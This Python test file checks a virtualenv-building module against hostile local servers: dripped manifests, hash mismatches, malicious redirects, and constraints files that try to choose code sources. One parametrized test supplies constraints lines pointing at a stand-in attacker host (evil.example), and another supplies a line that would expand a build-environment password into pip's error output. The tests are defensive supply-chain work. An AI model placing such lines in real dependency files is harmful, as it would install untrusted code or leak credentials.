"""A hostile network, attacked through the real state modules (docs/security.md,
"Bounded network work" and "Constraints files fetched by URL").

Every test runs a real HTTP server on 127.0.0.1 in a thread that misbehaves on
purpose: it drips a manifest a byte at a time, serves bytes that do not hash to
what vouches for them, or serves constraints files that try to choose where
code comes from. Each attack must end with a clear error naming the URL,
within its deadline, with nothing built, installed or left behind.
"""

import hashlib
import http.server
import os
import threading
import time

import pytest

import servers
from snapshots import files_holding

PACKAGES = ["vbdep==1.0"]


def venv(tmp_path, name="app"):
    return str(tmp_path / "venvs" / name)


class Hostile:
    """A server answering every GET the same hostile way: ``drip`` (the full
    Content-Length, then a byte a second) or ``serve`` (these bytes, whatever the path)."""

    def __init__(self, kind, body):
        self.kind, self.body = kind, body
        self.stop = threading.Event()
        self.paths = []
        hostile = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hostile.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(hostile.body)))
                self.end_headers()
                if hostile.kind == "serve":
                    self.wfile.write(hostile.body)
                    return
                for index in range(len(hostile.body)):
                    if hostile.stop.wait(1.0):
                        return
                    try:
                        self.wfile.write(hostile.body[index:index + 1])
                        self.wfile.flush()
                    except OSError:
                        return  # the client gave up, as it should

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def __enter__(self):
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05},
                         daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.httpd.shutdown()
        self.httpd.server_close()


def partial_files(loaders):
    cache = os.path.join(loaders.opts["cachedir"], "venvbuild", "wheels")
    return [name for _root, _dirs, files in os.walk(cache) for name in files
            if name.startswith(".part-")]


# -- bounded time: a repo that drips its manifest -------------------------------------


def test_a_repo_that_drips_its_manifest_fails_within_wait_timeout(states, loaders, tmp_path):
    manifest = (b"# venvbuild-manifest 3\n# venv: app\n" + b"# requirement: vbdep\n" * 100)
    with Hostile("drip", manifest) as server:
        started = time.monotonic()
        ret = states.venvbuild.installed(name=venv(tmp_path), venv_id="app", packages=PACKAGES,
                                         repo_url=server.url, wait_timeout=3)
        elapsed = time.monotonic() - started
    assert ret.result is False
    assert elapsed < 8, elapsed  # 3 s, and the state's own cost
    assert ret.comment.startswith(f"manifest {server.url}/")
    assert "not received completely within wait_timeout (3 s)" in ret.comment
    assert "a larger wait_timeout allows more" in ret.comment
    assert len(server.paths) == 1
    assert not os.path.lexists(venv(tmp_path))
    assert partial_files(loaders) == []


# -- a manifest's hash is checked before it is parsed ---------------------------------


def test_a_manifest_that_does_not_hash_right_is_refused_without_being_parsed(states, tmp_path):
    # Parsing these bytes would fail with the parser's own error ("venvbuild-manifest
    # 9, written by another venvbuild release"): the error must be the hash mismatch.
    bogus = b"# venvbuild-manifest 9\n# venv: app\n"
    pinned = "a" * 64
    with Hostile("serve", bogus) as server:
        ret = states.venvbuild.installed(name=venv(tmp_path), venv_id="app", packages=PACKAGES,
                                         repo_url=server.url, manifest_sha256=pinned,
                                         wait_timeout=2)
    assert ret.result is False
    assert f"has sha256 {hashlib.sha256(bogus).hexdigest()[:16]}..., but manifest_sha256 in " \
           f"the pillar says {pinned[:16]}...; refused, and not even parsed" in ret.comment
    assert "written by another venvbuild release" not in ret.comment
    assert not os.path.lexists(venv(tmp_path))


# -- constraints files fetched by URL ---------------------------------------------------


def build_log(loaders, modules, **args):
    spec_id = modules.venvbuild.spec_hash("app", **args)
    path = os.path.join(loaders.opts["cachedir"], "venvbuild", "logs", f"build-app-{spec_id}.log")
    if not os.path.exists(path):
        return ""
    with open(path, encoding="utf-8") as handle:
        return handle.read()


def nothing_built(repo):
    """No manifest, no wheel, no staging left in the repo."""
    found = [os.path.join(root, name) for root, _dirs, files in os.walk(repo) for name in files
             if not name.endswith(".lock")]
    return found == []


@pytest.mark.parametrize("line", [
    "foo @ http://evil.example/foo.tar.gz",
    "git+https://evil.example/foo.git@main#egg=foo",
    "./local/path",
    "-e git+https://evil.example/foo.git#egg=foo",
    "--index-url https://evil.example/simple",
])
def test_a_constraints_file_that_names_where_code_comes_from_is_refused(
        states, modules, loaders, tmp_path, build_args, line):
    www = tmp_path / "www"
    www.mkdir()
    (www / "uc.txt").write_text(f"vbdep===1.0\n{line}\n")
    repo = str(tmp_path / "repo")
    with servers.serve(www) as (url, _server):
        args = {"packages": PACKAGES, "constraints": [f"-c {url}/uc.txt"],
                "build_args": build_args, "install_tool": "uv"}
        ret = states.venvbuild.wheels_built(name="app", repo_path=repo, **args)
    assert ret.result is False
    assert ret.comment.startswith(f"constraints file {url}/uc.txt, line 2: "), ret.comment
    assert nothing_built(repo)
    # The build stopped before creating an environment or running pip.
    assert "pip" not in build_log(loaders, modules, **args)


def test_a_pinned_constraints_url_with_other_content_is_refused(states, tmp_path, build_args):
    www = tmp_path / "www"
    www.mkdir()
    (www / "uc.txt").write_bytes(b"vbdep===1.1\n")  # changed upstream, or on the way
    actual = hashlib.sha256(b"vbdep===1.1\n").hexdigest()
    pinned = hashlib.sha256(b"vbdep===1.0\n").hexdigest()
    repo = str(tmp_path / "repo")
    with servers.serve(www) as (url, _server):
        ret = states.venvbuild.wheels_built(
            name="app", repo_path=repo, packages=PACKAGES, build_args=build_args,
            constraints=[f"-c {url}/uc.txt#sha256={pinned}"], install_tool="uv")
    assert ret.result is False
    assert ret.comment.startswith(f"constraints file {url}/uc.txt: its content has sha256 "
                                  f"{actual}, but the #sha256= pin of the spec says {pinned}; "
                                  "refused")
    assert nothing_built(repo)


def test_a_plain_http_constraints_url_warns_and_a_pinned_one_does_not(states, tmp_path,
                                                                      build_args):
    repo = str(tmp_path / "repo")
    url = "http://127.0.0.1:9/uc.txt"  # test mode fetches nothing
    plain = states.venvbuild.wheels_built(name="app", repo_path=repo, packages=PACKAGES,
                                          constraints=[f"-c {url}"], test=True)
    assert plain.result is None
    (warning,) = plain.full_return["warnings"]
    assert warning.startswith(f"constraints file {url} is plain HTTP without a sha256 pin")
    pinned = states.venvbuild.wheels_built(
        name="app", repo_path=repo, packages=PACKAGES, test=True,
        constraints=[f"-c {url}#sha256={'a' * 64}"])
    assert "warnings" not in pinned.full_return
    installed = states.venvbuild.installed(name=venv(tmp_path), venv_id="app", repo_path=repo,
                                           packages=PACKAGES, constraints=[f"-c {url}"],
                                           test=True)
    assert installed.full_return["warnings"] == [warning]


def test_a_pinned_constraints_url_with_the_right_content_builds_without_a_warning(
        states, tmp_path, build_args):
    www = tmp_path / "www"
    www.mkdir()
    content = b"vbdep===1.0\n"
    (www / "uc.txt").write_bytes(content)
    pin = hashlib.sha256(content).hexdigest()
    repo = str(tmp_path / "repo")
    with servers.serve(www) as (url, server):
        ref = f"{url}/uc.txt#sha256={pin}"
        ret = states.venvbuild.wheels_built(name="app", repo_path=repo, packages=["vbdep"],
                                            constraints=[f"-c {ref}"], build_args=build_args,
                                            install_tool="uv")
        assert server.hits == {"/uc.txt": 1}  # the pin is not sent
    assert ret.result is True, ret.comment
    assert "warnings" not in ret.full_return
    assert ret.changes["packages"] == {"added": {"vbdep": "1.0"}}
    (manifest,) = [os.path.join(root, name) for root, _dirs, files in os.walk(repo)
                   for name in files if os.path.basename(root) == "manifests"]
    with open(manifest, encoding="utf-8") as handle:
        # The manifest records the reference as the spec has it, pin included.
        assert f"# constraints-file: {pin} {ref}\n" in handle.read()


def test_a_constraints_line_that_would_expand_a_build_env_secret_is_refused(
        states, modules, loaders, tmp_path, build_args):
    """pip expands ${NAME} in the files it reads from the build's environment; a marker
    comparing with a build_env secret makes pip's error quote its value."""
    secret = "hunter2-envexp"
    www = tmp_path / "www"
    www.mkdir()
    (www / "uc.txt").write_text('vbdep===1.0; python_version ~= "${UV_INDEX_PRIV_PASSWORD}"\n')
    repo = str(tmp_path / "repo")
    with servers.serve(www) as (url, _server):
        args = {"packages": PACKAGES, "constraints": [f"-c {url}/uc.txt"],
                "build_args": build_args, "install_tool": "uv",
                "build_env": {"UV_INDEX_PRIV_PASSWORD": secret}}
        ret = states.venvbuild.wheels_built(name="app", repo_path=repo, **args)
    assert ret.result is False
    assert ret.comment.startswith(f"constraints file {url}/uc.txt, line 1: holds '$'"), ret.comment
    assert secret not in str(ret.full_return)
    assert secret not in build_log(loaders, modules, **args)
    assert nothing_built(repo)


def test_a_constraints_redirect_is_followed_unread_and_never_to_a_file(states, tmp_path,
                                                                      build_args):
    """upper-constraints URLs redirect: the redirect's body is never read (one without
    end would otherwise be read into memory), and only to http(s)."""
    www = tmp_path / "www"
    www.mkdir()
    (www / "uc.txt").write_text("vbdep===1.0\n")
    (www / "evil.txt").write_text("vbdep===1.0\n")
    repo = str(tmp_path / "repo")
    misbehave = {"/uc.txt": ["redirect-endless"], "/evil.txt": ["redirect-file"]}
    with servers.serve(www, misbehave=misbehave) as (url, server):
        started = time.monotonic()
        ret = states.venvbuild.wheels_built(name="app", repo_path=repo, packages=["vbdep"],
                                            constraints=[f"-c {url}/uc.txt"],
                                            build_args=build_args, install_tool="uv")
        assert ret.result is True, ret.comment
        assert time.monotonic() - started < 60
        assert server.hits["/uc.txt"] == 2  # the redirect, then the file
        refused = states.venvbuild.wheels_built(name="app2", repo_path=repo, packages=["vbdep"],
                                                constraints=[f"-c {url}/evil.txt"],
                                                build_args=build_args, install_tool="uv")
    assert refused.result is False
    assert f"{url}/evil.txt: redirected to a file: address" in refused.comment
    assert "root:" not in refused.comment


def test_a_token_in_a_constraints_urls_query_reaches_no_record(states, loaders, tmp_path,
                                                              build_args):
    """GitLab-style raw files take ?private_token=...: the manifest (served to anyone),
    the return and the logs show the URL with its query hidden."""
    token = "glpat-venvbuildQUERY"
    www = tmp_path / "www"
    www.mkdir()
    (www / "uc.txt").write_text("vbdep===1.0\n")
    repo = str(tmp_path / "repo")
    with servers.serve(www) as (url, server):
        ret = states.venvbuild.wheels_built(
            name="app", repo_path=repo, packages=["vbdep"], build_args=build_args,
            constraints=[f"-c {url}/uc.txt?private_token={token}"], install_tool="uv")
        assert server.hits == {f"/uc.txt?private_token={token}": 1}  # sent as given
    assert ret.result is True, ret.comment
    assert token not in str(ret.full_return)
    (manifest,) = [os.path.join(root, name) for root, _dirs, files in os.walk(repo)
                   for name in files if os.path.basename(root) == "manifests"]
    with open(manifest, encoding="utf-8") as handle:
        assert f" {url}/uc.txt?****\n" in handle.read()
    state_dir = os.path.join(loaders.opts["cachedir"], "venvbuild")
    assert files_holding(token, [repo, os.path.join(state_dir, "logs")]) == []
